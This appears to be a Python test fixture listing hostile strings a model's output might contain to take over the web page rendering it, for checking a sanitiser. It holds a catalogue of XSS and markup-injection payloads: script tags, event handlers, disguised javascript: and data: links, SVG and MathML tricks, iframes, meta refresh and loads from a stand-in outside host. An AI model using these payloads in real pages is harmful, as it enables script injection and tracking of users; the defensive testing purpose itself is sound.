"""What a model may write to take over the page that shows it.

Each sets `owned`, leaves the box it is shown in, or asks ELSEWHERE for something, where it is believed.
"""
# ruff: noqa: E501 - markup is read as it is sent

from __future__ import annotations

ELSEWHERE = "elsewhere.example"
HOSTILE = {
    "script": "<script>window.owned = 1</script>",
    "script over lines": "text <script\n>\nwindow.owned = 1\n</script\n>",
    "script in a list": "- one\n- <script>window.owned = 1</script>",
    "img": '<img src=x onerror="window.owned = 1">',
    "img without quotes": "<IMG SRC=x OnErRoR=window.owned=1//",
    "img from elsewhere": f"<img src=https://{ELSEWHERE}/a.png srcset=https://{ELSEWHERE}/b.png>",
    "markdown image": f'![a](https://{ELSEWHERE}/c.png "t") ![b](x" onerror="window.owned=1)',
    "markdown image of data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript link": "[a](javascript:window.owned=1) [b](JaVaScRiPt:window.owned=1)",
    "javascript link, disguised": "[a](java&#10;script:window.owned=1) [b](&#106;avascript:window.owned=1) [c](\x01javascript:window.owned=1)",
    "javascript anchor": '<a href="javascript:window.owned=1">a</a> <a href=" &#x0A;javascript&colon;window.owned=1">b</a>',
    "data link": "[a](data:text/html,<script>window.owned=1</script>) <a href='data:text/html;base64,PHNjcmlwdD4='>b</a>",
    "vbscript link": "[a](vbscript:window.owned=1) <vbscript:owned> <javascript:window.owned=1>",
    "reference link": "[a][r]\n\n[r]: javascript:window.owned=1",
    "svg": '<svg onload="window.owned=1"><script>window.owned=1</script><animate onbegin="window.owned=1" attributeName=x dur=1s /></svg>',
    "svg use": f'<svg><use href="https://{ELSEWHERE}/d.svg#x"/><image href="https://{ELSEWHERE}/e.png"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
    "iframe": f'<iframe src="javascript:parent.owned=1"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe><iframe src="https://{ELSEWHERE}/f"></iframe>',
    "object": f'<object data="https://{ELSEWHERE}/g"></object><embed src="https://{ELSEWHERE}/h">',
    "style": f"<style>@import 'https://{ELSEWHERE}/i.css'; main {{ display: none }}</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url(https://{ELSEWHERE}/j.png)">over everything</p>',
    "link and base": f'<base href="https://{ELSEWHERE}/"><link rel=stylesheet href="https://{ELSEWHERE}/k.css">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{ELSEWHERE}/l">',
    "form": '<form action="/logout" method="post"><input name=a autofocus onfocus="window.owned=1"><button formaction="javascript:window.owned=1">Send</button></form>',
    "media": '<video><source onerror="window.owned=1"></video><audio src=x onerror="window.owned=1" controls></audio>',
    "details": '<details open ontoggle="window.owned=1"><summary>a</summary>b</details>',
    "handlers": '<a href="#x" onclick="window.owned=1" onpointerenter="window.owned=1" onmouseover="window.owned=1">a</a> <b onmouseover=window.owned=1>b</b>',
    "names of the page": '<a id="content" name="location" class="fixed inset-0 bg-bad">a</a><p id="root" data-testid="answer">b</p>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.owned=1>">',
    "template and comment": "<template><img src=x onerror=window.owned=1></template> <!--><img src=x onerror=window.owned=1>-->",
    "custom element": '<x-a onconnected="window.owned=1"><slot onslotchoice="window.owned=1"></slot></x-a>',
    "table": "| a |\n|---|\n| <script>window.owned=1</script><img src=x onerror=window.owned=1> |",
    "code": "```html\n<script>window.owned = 1</script>\n<img src=x onerror=window.owned=1>\n```",
    "code that ends early": "```\n</code></pre><script>window.owned=1</script>\n```",
    "inline code": "`<img src=x onerror=window.owned=1>` and ``</code><script>window.owned=1</script>``",
    "language of code": '```"><img/src=x/onerror=window.owned=1>\ncode\n```',
    "half a tag": "<img src=x onerror=window.owned=1 ",
    "unclosed": "<div><p><table><tr><td><a href='x",
}  # fmt: skip
